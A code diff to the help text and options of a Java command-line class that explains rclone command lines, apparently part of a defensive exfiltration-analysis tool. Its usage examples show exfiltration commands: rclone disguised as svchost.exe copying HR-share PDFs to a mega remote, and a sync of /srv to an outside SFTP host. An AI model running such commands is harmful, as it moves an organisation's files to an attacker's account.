@@ -24,18 +24,15 @@ import picocli.CommandLine.Spec;
     mixinStandardHelpOptions = true,
     description = {
       "Says what a command line would do if it is rclone's: what is taken, from where, into whose"
-          + " account.",
-      "Secrets are shown as [REDACTED]."
+          + " account. Secrets are shown as [REDACTED].",
+      "With --jsonl each line of standard input is a JSON string, or an object"
+          + " {\"cmd\": …, \"os\": …, \"args\": […], \"env\": {…}}; each gives one line, in order."
     },
+    exitCodeList = {"0:explained", "2:usage"},
     footer = {
-      "",
-      "With --jsonl each line of standard input is a JSON string, or an object",
-      "{\"cmd\": …, \"os\": …, \"args\": […], \"env\": {…}}; each gives one line, in order.",
-      "",
-      "Examples:",
-      "  exfilwatch explain -- 'svchost.exe copy \\\\fs\\hr mega:x --include *.pdf'",
-      "  exfilwatch explain --json --os posix -- \"rclone sync /srv :sftp,host=203.0.113.5:x\"",
-      "  exfilwatch explain --jsonl < command-lines.jsonl"
+      "exfilwatch explain -- 'svchost.exe copy \\\\fs\\hr mega:x --include *.pdf'",
+      "exfilwatch explain --json --os posix -- 'rclone sync /srv :sftp,host=203.0.113.5:x'",
+      "exfilwatch explain --jsonl < command-lines.jsonl"
     })
 @SuppressWarnings("NullAway.Init") // picocli fills the fields
 final class ExplainCommand implements Callable<Integer> {
@@ -43,6 +40,7 @@ final class ExplainCommand implements Callable<Integer> {
   @Option(
       names = "--os",
       paramLabel = "windows|posix",
+      completionCandidates = Systems.class,
       description = "whose quoting rules apply (default: told from the command line)")
   private @Nullable Os os;
 
@@ -84,6 +82,12 @@ final class ExplainCommand implements Callable<Integer> {
     BufferedReader in = new BufferedReader(new InputStreamReader(System.in, UTF_8));
     for (String text = in.readLine(); text != null; text = in.readLine()) {
       out.println(line.explain(text));
+    }
+  }
+
+  private static final class Systems extends EnumNames {
+    Systems() {
+      super(Os.values());
     }
   }
 }
